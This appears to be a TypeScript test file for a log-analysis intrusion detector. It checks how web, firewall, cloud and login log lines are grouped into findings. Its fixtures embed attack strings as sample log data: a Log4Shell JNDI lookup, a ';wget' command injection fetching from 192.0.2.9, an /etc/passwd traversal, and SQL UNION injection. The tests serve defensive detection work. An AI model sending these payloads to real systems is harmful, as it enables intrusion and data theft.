import { describe, expect, it } from 'vitest';
import { findings, holdLines, matched, syslog } from './lines.ts';
import type { LineTable } from './lines.ts';

const request = (path: string, status = 403, rest = '"-" "curl/8"') =>
  `203.0.113.5 - - [21/Nov/2026:06:00:00 +0000] "GET ${path} HTTP/1.1" ${status} 17 ${rest}`;
const sent = (path: string, status = 200) => request(path, status).replace('"GET', '"POST');
const packet = (port: number) =>
  syslog(
    'kernel',
    `[1.5] [UFW BLOCK] IN=eth0 OUT= MAC=de:ad SRC=203.0.113.5 DST=192.0.2.1 LEN=44 TTL=43 ID=25 PROTO=TCP SPT=52 DPT=${port} WINDOW=1024 SYN`,
  );
const routed = (port: number) =>
  `2026-11-21T06:00:00+00:00 gw firewall,info drop input: in:ether1 out:(unknown 0), connection-state:new proto TCP (SYN), 203.0.113.5:59388->192.0.2.1:${port}, len 40`;

const SINGLE: LineTable = [
  ['web_code_injected', request('/', 403, '"-" "${jndi:ldap://192.0.2.9/a}"')],
  ['web_code_injected', request('/?q=%24%7Bdns%3Aaddress%7Cexample.com%7D')],
  ['web_code_injected', request('/?x=;wget%20http://192.0.2.9/a')],
  ['web_known_hole', request('/remote/fgt_lang?lang=a')],
  ['web_known_hole', request('/setup/setupadministrator.action')],
  ['http_version_invented', request('/').replace('HTTP/1.1', 'HTTP/1.2')],
  ['wordpress_author_asked', request('/?author=7', 301)],
  ['attack_tool_agent', request('/', 403, '"-" "Mozilla/5.0 (compatible; dirsearch)"')],
  ['packet_noted', packet(22)],
  ['router_packet_noted', routed(22)],
  [
    'pf_packet_blocked',
    syslog(
      'filterlog[7]',
      '5,,,10103,igb0,match,block,in,4,0x0,,241,7,0,none,6,tcp,44,203.0.113.5,192.0.2.1,52220,8080,0,S,1,,1024,,',
    ),
  ],
  [
    'suricata_alert',
    '{"event_type":"alert","src_ip":"203.0.113.5","dest_ip":"192.0.2.1","alert":{"severity":1,"signature":"a"}}',
  ],
  [
    'aws_login_without_mfa',
    '{"eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","sourceIPAddress":"203.0.113.5","userIdentity":{"type":"IAMUser","userName":"bob"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}}',
    'bob',
  ],
  [
    'kubernetes_dangerous',
    '{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"create","user":{"username":"bob"},"sourceIPs":["203.0.113.5"],"objectRef":{"resource":"pods","subresource":"exec"}}',
    'bob',
  ],
  [
    'mail_filter_blocked',
    syslog(
      'amavis[7]',
      '(7-09) Blocked INFECTED (Eicar) {DiscardedInbound}, [203.0.113.5]:1434 [203.0.113.5] <a@b> -> <c@d>',
    ),
  ],
  [
    'logins_limited',
    '[2026-11-21 06:00:00,112] WARNING in limiter: Authentication attempt from 203.0.113.5 has been rate-limited.',
  ],
  [
    'program_login_failed',
    '{"level":"warn","message":"invalid password","request_ip":"203.0.113.5, 10.0.0.1","user":"bob"}',
    'bob',
  ],
  [
    'written_login_refused',
    '[2026-11-21 06:00:00] local.INFO: AUDIT: User is trying to login using "bob" (203.0.113.5 -> POST:https://example.com/login)',
    'bob',
  ],
  [
    'more_login_refused',
    String.raw`[2026/11/21 06:00:00.1, 2]   Auth: [SMB2,(null)] user [x]\[bob] at [Sat] with [NTLMv2] status [NT_STATUS_WRONG_PASSWORD] workstation [A] remote host [ipv4:203.0.113.5:4711] mapped to [x]\[bob].`,
  ],
  [
    'wireguard_refused',
    syslog(
      'kernel',
      '[1.5] wireguard: wg0: Invalid MAC of handshake, dropping packet from 203.0.113.5:51820',
    ),
  ],
];

describe('lines of incidents', () => holdLines(SINGLE));

const times = <T>(count: number, make: (n: number) => T): T[] =>
  Array.from({ length: count }, (_, n) => make(n));
const found = (texts: readonly string[], step = 1) =>
  findings(texts.map((text, n) => [n * step, text] as const))
    .map(({ identity }) => identity.parts.join(' '))
    .sort();

describe('incidents', () => {
  it.each([
    ['packet_scan', times(10, (n) => packet(1000 + n))],
    ['router_scan', times(10, (n) => routed(1000 + n))],
    ['web_traversal_scan', times(3, (n) => request(`/?f=../../a${n}`))],
    ['wordpress_users_listed', times(5, (n) => request(`/?author=${n}`, 301))],
    ['login_form_guessing', times(5, () => sent('/wp-login.php'))],
    ['web_scanner', times(2, () => request('/', 200, '"-" "Mozilla/5.00 (Nikto/2.5.0)"'))],
    ['web_injection', times(5, (n) => request(`/?id=${n}%27%20UNION%20SELECT%201`, 200))],
    [
      'program_password_guessing',
      times(5, () => '{"message":"invalid password","request_ip":"203.0.113.5"}'),
    ],
  ])('%s is one finding that names the address', (rule, texts) => {
    const drafts = findings(texts.map((text, n) => [n, text] as const));
    expect(drafts.map(({ identity }) => identity.parts.join(' '))).toEqual([rule]);
    expect(drafts[0]?.occurrences.flatMap(({ entities }) => Object.keys(entities.ip ?? {}))).toContain(
      '203.0.113.5',
    );
    expect(found(texts.slice(1))).toEqual([]);
  });

  it('names the session of an IPsec failure by its packets', () => {
    const failure = syslog('charon', '06[IKE] <con|83> EAP-MS-CHAPv2 verification failed, retry (1)');
    const from = syslog(
      'charon',
      '06[NET] <con|83> received packet: from 203.0.113.5[288] to 192.0.2.1[4500] (144 bytes)',
    );
    expect(found([from, ...times(5, () => failure)])).toEqual(['ipsec_password_guessing']);
    expect(found(times(5, () => failure))).toEqual([]);
  });

  it('calls a hole that was answered grave, and one that was refused not', () => {
    const severities = (status: number) =>
      findings([[0, request('/cgi-bin/.%2e/.%2e/etc/passwd', status)]]).map(({ severity }) => severity);
    expect(severities(200)).toContain('high');
    expect(severities(404)).not.toContain('high');
  });

  it('is one finding of errors when a release does not fit its database', () => {
    const failed = syslog(
      'postgres[7]',
      '2026-11-21 06:00:00.000 UTC [7] a@b ERROR:  column o.slot does not exist at character 41',
    );
    const drafts = findings(times(5, (n) => [n, failed] as const));
    expect(drafts.map(({ category, identity }) => [category, identity.parts.join(' ')])).toEqual([
      ['errors', 'statement_errors'],
    ]);
    expect(found(times(4, () => failed))).toEqual([]);
  });
});

describe('ordinary requests', () => {
  it.each([
    request('/blog/powershell-tips', 200),
    request('/search?q=rock+%27n%27+roll', 200),
    request('/docs/cmd.exe.html', 200),
    request('/actuator/env', 200),
    request('/login', 200),
    sent('/login', 302),
    sent('/api/auth/refresh', 200),
    '{"level":"info","message":"user not found in cache","from":"web-1"}',
    '{"eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","sourceIPAddress":"203.0.113.5","userIdentity":{"type":"IAMUser"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"Yes"}}',
    syslog(
      'kernel',
      '[1.5] [UFW ALLOW] IN= OUT=eth0 SRC=192.0.2.1 DST=203.0.113.5 LEN=44 PROTO=TCP SPT=52 DPT=443',
    ),
  ])('are left alone: %s', (line) => {
    expect(matched(line)).toEqual([]);
  });
});
